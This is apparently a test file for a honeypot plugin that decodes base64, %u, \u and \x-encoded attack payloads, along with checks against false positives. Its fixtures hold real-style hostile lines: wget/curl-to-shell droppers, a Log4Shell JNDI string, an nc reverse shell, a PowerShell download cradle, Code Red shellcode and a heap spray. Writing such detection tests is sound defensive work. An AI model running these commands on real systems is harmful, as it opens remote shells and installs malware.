// b64-decode through the SDK harness, in the daemon's own wasm engine: real
// attack payloads, exact offsets, the artifacts' bytes, and what must give
// nothing. Run by `honeytrap-plugin test` (node:test).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { attackFixture, loadPlugin } from '@honeytrap/sdk';
import { ORDINARY_TRAFFIC, prng } from '@honeytrap/sdk/testing';

const dir = fileURLToPath(new URL('..', import.meta.url));
const b64 = (s, enc = 'utf8') => Buffer.from(s, enc).toString('base64');
const sha256 = (b) => createHash('sha256').update(b).digest('hex');

let plugin;
before(async () => {
  plugin = await loadPlugin(dir);
});
after(() => plugin.close());

const run = (received, port = 80) => plugin.run(attackFixture({ received, port }));

/** The artifact whose bytes have this sha256. */
function artifactFor(out, sha) {
  const a = out.artifacts.find((x) => sha256(Buffer.from(x.data, 'base64')) === sha);
  assert.ok(a, `no artifact with sha256 ${sha}`);
  return a;
}

describe('base64', () => {
  test('an echo | base64 -d command line: the decoded command, its offset, an artifact', async () => {
    const cmd =
      'cd /tmp || cd /var/run; wget http://198.51.100.20/bins/x86 -O .x; chmod 777 .x; ./.x telnet';
    const received = `enable\r\nsystem\r\nshell\r\necho ${b64(cmd)} | base64 -d | sh\r\n`;
    const out = await run(received, 23);
    assert.equal(out.findings.length, 1);
    const [f] = out.findings;
    assert.equal(f.type, 'decoded-payload');
    assert.equal(f.value, cmd);
    assert.equal(f.offset, received.indexOf('Y2Qg'));
    assert.deepEqual(f.meta, {
      encoding: 'base64',
      length: b64(cmd).length,
      size: cmd.length,
      contentType: 'text/x-shellscript',
      sha256: sha256(Buffer.from(cmd)),
      depth: 1,
      stored: true,
      text: 'ascii',
    });
    assert.equal(out.artifacts.length, 1);
    assert.equal(out.artifacts[0].contentType, 'text/x-shellscript');
    assert.equal(Buffer.from(out.artifacts[0].data, 'base64').toString(), cmd);
  });

  test('Log4Shell JNDI lookup with a Base64 command in the LDAP path', async () => {
    const cmd =
      '(curl -s 198.51.100.7:5874/192.0.2.1:443||wget -q -O- 198.51.100.7:5874/192.0.2.1:443)|bash';
    const received =
      'GET /?x=${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/' +
      b64(cmd) +
      '} HTTP/1.1\r\nHost: 192.0.2.1:443\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/' +
      b64(cmd) +
      '}\r\n\r\n';
    const out = await run(received, 443);
    // Two places, one payload: two findings, one artifact.
    assert.deepEqual(
      out.findings.map((f) => [f.offset, f.value, f.meta.stored]),
      [
        [received.indexOf(b64(cmd)), cmd, true],
        [received.lastIndexOf(b64(cmd)), cmd, true],
      ],
    );
    assert.equal(out.artifacts.length, 1);
  });

  test('URL-safe base64 (- and _) is base64url', async () => {
    // bytes chosen so the standard encoding has both + and /
    const payload = Buffer.from(
      '3e3f3ffb73682063202777676574202d714f2d20687474703a2f2f3139382e35312e3130302e372f6927',
      'hex',
    );
    const std = payload.toString('base64');
    assert.match(std, /\+/);
    assert.match(std, /\//);
    const url = payload.toString('base64url');
    const received = `GET /api/render?tpl=${url}&v=2 HTTP/1.1\r\nHost: x\r\n\r\n`;
    const out = await run(received);
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].offset, received.indexOf(url));
    assert.equal(out.findings[0].meta.encoding, 'base64url');
    assert.equal(out.findings[0].meta.sha256, sha256(payload));
  });

  test('percent-escaped padding and + / in a query string (%2B %2F %3D)', async () => {
    const cmd = 'nc 198.51.100.7 4444 -e /bin/sh >/dev/null 2>&1 &';
    const encoded = b64(cmd);
    assert.match(encoded, /=$/);
    const escaped = encodeURIComponent(encoded);
    const received = `GET /cgi-bin/ping.cgi?ip=127.0.0.1;echo%20${escaped}|base64%20-d|sh HTTP/1.0\r\n\r\n`;
    const out = await run(received);
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].value, cmd);
    assert.equal(out.findings[0].offset, received.indexOf(escaped));
    assert.equal(out.findings[0].meta.length, escaped.length);
  });

  test('a line-wrapped (MIME, 76 per line) attachment is one payload', async () => {
    const elf = Buffer.concat([
      Buffer.from('7f454c46010101000000000000000000020003000100000054800408', 'hex'),
      prng(7).bytes(300),
    ]);
    const body = elf.toString('base64').replace(/.{76}/g, '$&\r\n');
    const received =
      'MAIL FROM:<a@example.net>\r\nDATA\r\nContent-Type: application/octet-stream; name="x"\r\nContent-Transfer-Encoding: base64\r\n\r\n' +
      body +
      '\r\n.\r\nQUIT\r\n';
    const out = await run(received, 25);
    assert.equal(out.findings.length, 1);
    const f = out.findings[0];
    assert.equal(f.offset, received.indexOf(body.slice(0, 16)));
    assert.equal(f.meta.size, elf.length);
    assert.equal(f.meta.contentType, 'application/x-elf');
    assert.equal(f.value, elf.subarray(0, 64).toString('hex'));
    assert.equal(f.meta.valueTruncated, true);
    assert.equal(artifactFor(out, sha256(elf)).contentType, 'application/x-elf');
  });

  test('PowerShell -EncodedCommand (UTF-16LE): the text as the value, the raw bytes as the artifact', async () => {
    const ps = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')";
    const received =
      'POST /api/exec HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n\r\n' +
      `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${b64(ps, 'utf16le')}`;
    const out = await run(received);
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].value, ps);
    assert.equal(out.findings[0].meta.text, 'utf-16le');
    assert.deepEqual(Buffer.from(out.artifacts[0].data, 'base64'), Buffer.from(ps, 'utf16le'));
  });

  test('UTF-8 text: decoded as UTF-8, meta.text utf-8', async () => {
    const cmd = "echo 'Привет, 世界' > /tmp/.motd; curl -s http://203.0.113.9/x | sh";
    const out = await run(`GET /?q=${b64(cmd)} HTTP/1.1\r\n\r\n`);
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].value, cmd);
    assert.equal(out.findings[0].meta.text, 'utf-8');
    assert.equal(out.findings[0].meta.size, Buffer.byteLength(cmd));
    assert.equal(out.findings[0].meta.valueTruncated, undefined);
  });

  test('a base64 payload inside a base64 payload: both, the inner one at depth 2', async () => {
    const inner = 'curl -fsSL http://203.0.113.9/c.sh | bash';
    const outer = `echo ${b64(inner)} | base64 -d | bash`;
    const received = `POST /tmui/login.jsp HTTP/1.1\r\nHost: x\r\n\r\ncommand=run+cli&arg=bash+-c+{echo,${b64(outer)}}|{base64,-d}|bash`;
    const out = await run(received, 443);
    assert.deepEqual(
      out.findings.map((f) => [f.offset, f.value, f.meta.depth, f.meta.innerOffset]),
      [
        [received.indexOf(b64(outer)), outer, 1, undefined],
        [received.indexOf(b64(outer)), inner, 2, outer.indexOf(b64(inner))],
      ],
    );
    assert.equal(out.artifacts.length, 2);
  });
});

describe('%uXXXX and \\uXXXX', () => {
  // The Code Red worm's request (2001), as IIS logged it.
  const codeRed =
    'GET /default.ida?' +
    'N'.repeat(224) +
    '%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a HTTP/1.0\r\n\r\n';

  test('Code Red: the %u run as little-endian code units', async () => {
    const out = await run(codeRed);
    assert.equal(out.findings.length, 1);
    const f = out.findings[0];
    const units = [...codeRed.matchAll(/%u([0-9a-f]{4})/g)].map((m) => parseInt(m[1], 16));
    const bytes = Buffer.alloc(units.length * 2);
    units.forEach((u, i) => bytes.writeUInt16LE(u, i * 2));
    assert.equal(units.length, 22);
    assert.equal(f.offset, codeRed.indexOf('%u9090'));
    assert.equal(f.offset, 241);
    assert.equal(f.value, bytes.toString('hex'));
    assert.deepEqual(f.meta, {
      encoding: 'percent-u',
      length: 22 * 6,
      size: 44,
      contentType: 'application/octet-stream',
      sha256: sha256(bytes),
      depth: 1,
      stored: true,
      layout: 'utf16le',
    });
    assert.deepEqual(Buffer.from(out.artifacts[0].data, 'base64'), bytes);
  });

  test('\\uXXXX shellcode in a JavaScript heap spray', async () => {
    const sc = '\\u9090\\u9090\\u9090\\u9090\\u1feb\\u895e\\u0876\\uc031\\u4688\\u8907\\u0c46';
    const received = `<script>var s = unescape("${sc}"); while (s.length < 0x40000) s += s;</script>`;
    const out = await run(received);
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].offset, received.indexOf('\\u9090'));
    assert.equal(out.findings[0].meta.encoding, 'backslash-u');
    assert.equal(out.findings[0].value, '9090909090909090eb1f5e89760831c088460789460c');
  });

  test('a heap spray of one repeated unit is reported (it is not text)', async () => {
    const received = `var spray = unescape("${'%u0c0c'.repeat(16)}");`;
    const out = await run(received);
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].value, '0c'.repeat(32));
  });

  test('units below 0x100 are characters: %u-encoded ASCII decodes to text', async () => {
    const text = 'cmd.exe /c tftp -i 198.51.100.7 GET x.exe';
    const enc = [...text].map((c) => '%u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('');
    const out = await run(`GET /scripts/..%c1%1c../winnt/system32/${enc} HTTP/1.0\r\n\r\n`);
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].value, text);
    assert.equal(out.findings[0].meta.layout, 'chars');
  });
});

describe('\\xNN escapes', () => {
  test('an echo -ne ELF dropper line', async () => {
    const head = Buffer.from('7f454c4601010100000000000000000002002800010000000c8c0000', 'hex');
    const esc = [...head].map((b) => '\\x' + b.toString(16).padStart(2, '0')).join('');
    const received = `cd /tmp; echo -ne "${esc}" > .d; chmod +x .d\r\n`;
    const out = await run(received, 23);
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].offset, received.indexOf('\\x7f'));
    assert.equal(out.findings[0].meta.encoding, 'hex-escape');
    assert.equal(out.findings[0].meta.contentType, 'application/x-elf');
    assert.deepEqual(Buffer.from(out.artifacts[0].data, 'base64'), head);
  });
});

describe('artifacts from other plugins', () => {
  test('a text artifact (a downloaded script) is decoded; its own bytes never come back', async () => {
    const inner = 'wget -O /tmp/.k http://203.0.113.9/k; chmod +x /tmp/.k; /tmp/.k';
    const script = `#!/bin/sh\nexport PATH=/bin:/usr/bin\necho ${b64(inner)} | base64 -d | sh\n`;
    const out = await plugin.runArtifact(
      { data: script, contentType: 'text/x-shellscript', producer: 'http-download' },
      attackFixture({ received: 'GET /x HTTP/1.0\r\n\r\n' }),
    );
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].value, inner);
    assert.equal(out.findings[0].offset, script.indexOf(b64(inner)));
    assert.ok(out.artifacts.every((a) => Buffer.from(a.data, 'base64').toString() !== script));
  });
});

describe('false positives', () => {
  for (const o of ORDINARY_TRAFFIC) {
    test(`nothing in: ${o.name}`, async () => {
      const out = await run(o.data, o.port);
      assert.deepEqual(out, { findings: [], artifacts: [] });
    });
  }

  test('nothing in words, identifiers, hashes, UUIDs and paths', async () => {
    const text = [
      'internationalization counterrevolutionary ThisIsAnOrdinaryCamelCaseIdentifierName',
      'md5 d41d8cd98f00b204e9800998ecf8427e sha1 DA39A3EE5E6B4B0D3255BFEF95601890AFD80709',
      'sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      'uuid 123e4567-e89b-12d3-a456-426614174000 build 20240517143000123456',
      '/usr/share/javascript/jquery-ui/themes/smoothness/images/ui-bg_glass_75_e6e6e6_1x400.png',
      'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
      '%uXXXX%u12 \\u00e9t\\u00e9 \\x41\\x42 and a stray %u0041',
      'the alphabet ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/ and a shuffled one',
      'useandom-26T198340PX75pxJACKVERYMINDBUSHWOLF_GQZbfghjklqvwyzrict',
      // non-ASCII text as JSON and JavaScript's escape() write it
      '{"greeting":"\\u4f60\\u597d\\uff0c\\u4e16\\u754c","city":"\\u041c\\u043e\\u0441\\u043a\\u0432\\u0430"}',
      'Cookie: name=%u0416%u0443%u043A%u043E%u0432%u0020%u0418%u0432%u0430%u043D',
    ].join('\r\n');
    assert.deepEqual(await run(text), { findings: [], artifacts: [] });
  });

  test('nothing in 1 MiB of random bytes', async () => {
    const r = prng(20240601);
    for (let k = 0; k < 16; k++) {
      const out = await run(r.bytes(65536));
      assert.deepEqual(out.findings, [], `chunk ${k}`);
    }
  });
});

describe('config and limits', () => {
  const cmd = 'wget http://198.51.100.20/a.sh -O- | sh';
  const received = `echo ${b64(cmd)}|base64 -d|sh; %u9090%u9090%u9090%u9090`;

  test('encodings and minBase64Length', async () => {
    const p = await loadPlugin(dir, { config: { encodings: ['percent-u'], minBase64Length: 200 } });
    try {
      const out = await p.run(attackFixture({ received }));
      assert.deepEqual(
        out.findings.map((f) => f.meta.encoding),
        ['percent-u'],
      );
    } finally {
      await p.close();
    }
    const q = await loadPlugin(dir, { config: { minBase64Length: 200 } });
    try {
      const out = await q.run(attackFixture({ received }));
      assert.deepEqual(
        out.findings.map((f) => f.meta.encoding),
        ['percent-u'],
      );
    } finally {
      await q.close();
    }
  });

  test('maxPayloads and maxOutputBytes bound the result; the log says what was left out', async () => {
    const logs = [];
    const r = prng(3);
    const many = Array.from({ length: 30 }, () => b64(r.bytes(20000))).join(' ');
    const p = await loadPlugin(dir, {
      config: { maxPayloads: 25, maxOutputBytes: 100000 },
      log: (l) => logs.push(l),
    });
    try {
      const out = await p.run(attackFixture({ received: many, readLimit: 1 << 20 }), {
        ignoreFilters: true,
      });
      assert.equal(out.findings.length, 25);
      const stored = out.findings.filter((f) => f.meta.stored).length;
      assert.equal(stored, out.artifacts.length);
      assert.ok(stored >= 1 && stored < 25, `stored ${stored}`);
      assert.ok(JSON.stringify(out).length < 100000);
      assert.ok(
        logs.some((l) => /not reported/.test(l)),
        logs.join('\n'),
      );
      assert.ok(
        logs.some((l) => /without an artifact/.test(l)),
        logs.join('\n'),
      );
    } finally {
      await p.close();
    }
  });

  test('a 64 KiB attack that is one base64 blob: one 48 KiB artifact', async () => {
    const blob = prng(11).bytes(49152);
    const out = await run(blob.toString('base64'));
    assert.equal(out.findings.length, 1);
    assert.equal(out.findings[0].meta.size, 49152);
    assert.deepEqual(Buffer.from(out.artifacts[0].data, 'base64'), blob);
  });

  test('sha256 in meta matches the artifact for sizes around the block boundaries', async () => {
    for (const n of [12, 54, 55, 56, 63, 64, 65, 119, 120, 1000]) {
      const text = 'x'.repeat(n - 12) + 'wget http:/y';
      const out = await run(`echo ${b64(text)} | base64 -d`);
      assert.equal(out.findings.length, 1, `size ${n}`);
      assert.equal(out.findings[0].meta.sha256, sha256(Buffer.from(text)), `size ${n}`);
    }
  });
});
